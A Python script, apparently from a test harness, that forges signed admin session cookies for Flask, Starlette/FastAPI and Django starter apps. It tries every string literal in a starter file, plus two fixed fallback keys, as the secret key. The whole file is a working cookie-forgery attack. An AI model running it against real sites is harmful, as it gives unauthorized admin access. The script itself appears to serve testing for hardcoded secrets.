"""Forge an admin session cookie with every string a starter app ships, as an attacker would.

Run with the recipe's own virtualenv, so the framework's own signing code makes the cookies:

    python forge_sessions.py FRAMEWORK STARTER.py

Prints a JSON list of {"key": ..., "name": ..., "value": ...}: one signed session cookie per
string literal in the starter (any of them could have been a fixed key), plus the fixed keys
that earlier starters fell back to. Each claims the first admin user.
"""

import ast
import base64
import json
import sys
from pathlib import Path

EARLIER_FIXED_KEYS = [
    "local-development-only",
    "django-insecure-local-development-only",
]


def shipped_strings(path: Path) -> list[str]:
    tree = ast.parse(path.read_text())
    strings = {
        node.value
        for node in ast.walk(tree)
        if isinstance(node, ast.Constant) and isinstance(node.value, str)
    }
    return sorted(value for value in strings | set(EARLIER_FIXED_KEYS) if value)


def flask_cookie(key: str) -> tuple[str, str]:
    from flask import Flask
    from flask.sessions import SecureCookieSessionInterface

    app = Flask("forge")
    app.secret_key = key
    serializer = SecureCookieSessionInterface().get_signing_serializer(app)
    return "session", serializer.dumps({"admin_user_id": 1})


def starlette_cookie(key: str) -> tuple[str, str]:
    # What Starlette's SessionMiddleware writes: signed base64 JSON.
    from itsdangerous import TimestampSigner

    data = base64.b64encode(json.dumps({"admin_user_id": 1}).encode())
    return "session", TimestampSigner(key).sign(data).decode()


def django_cookie(key: str) -> tuple[str, str]:
    # What Django's signed-cookie session backend would accept for user 1.
    from django.conf import settings

    if not settings.configured:
        settings.configure()
    from django.core import signing

    session = {
        "_auth_user_id": "1",
        "_auth_user_backend": "django.contrib.auth.backends.ModelBackend",
    }
    value = signing.dumps(
        session,
        key=key,
        salt="django.contrib.sessions.backends.signed_cookies",
        serializer=signing.JSONSerializer,
        compress=True,
    )
    return "sessionid", value


FORGERS = {"django": django_cookie, "flask": flask_cookie, "fastapi": starlette_cookie}

if __name__ == "__main__":
    framework, starter = sys.argv[1], Path(sys.argv[2])
    forge = FORGERS[framework]
    cookies = []
    for key in shipped_strings(starter):
        name, value = forge(key)
        cookies.append({"key": key, "name": name, "value": value})
    print(json.dumps(cookies))
